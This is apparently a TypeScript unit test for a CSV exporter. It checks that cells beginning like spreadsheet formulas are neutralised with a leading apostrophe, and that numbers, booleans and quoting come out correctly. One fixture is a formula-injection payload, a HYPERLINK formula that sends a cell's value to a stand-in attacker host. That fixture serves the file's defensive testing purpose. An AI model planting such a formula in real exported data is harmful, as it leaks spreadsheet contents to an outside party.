// CSV as a spreadsheet opens it: a cell that starts like a formula is written as text, everything else as it is.
import { describe, expect, it } from "vitest";
import type { DatasetDefinition } from "../domain/catalog.ts";
import { csvBuffer, neutraliseFormula } from "./formats.ts";

describe("CSV cells", () => {
  it("write a text that starts like a formula with a leading apostrophe", () => {
    for (const text of [
      '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
      "+33 6",
      "-2+3",
      "@SUM(A1)",
      "\tx",
    ])
      expect(neutraliseFormula(text)).toBe(`'${text}`);
    for (const text of ["Jardin partagé", "2026-12-03", "a=b", ""])
      expect(neutraliseFormula(text)).toBe(text);
  });

  it("keep numbers, booleans and RFC 4180 quoting", () => {
    const dataset = {
      fields: [
        { name: "titre", type: "string" },
        { name: "voix", type: "integer" },
        { name: "retenu", type: "boolean" },
      ],
    } as unknown as DatasetDefinition;
    const csv = csvBuffer(dataset, [
      { titre: '=1+1 "x", y', voix: -3, retenu: true },
      { titre: "Banc", voix: 12, retenu: false },
    ]).toString("utf8");
    expect(csv).toBe('titre,voix,retenu\r\n"\'=1+1 ""x"", y",-3,true\r\nBanc,12,false\r\n');
  });
});
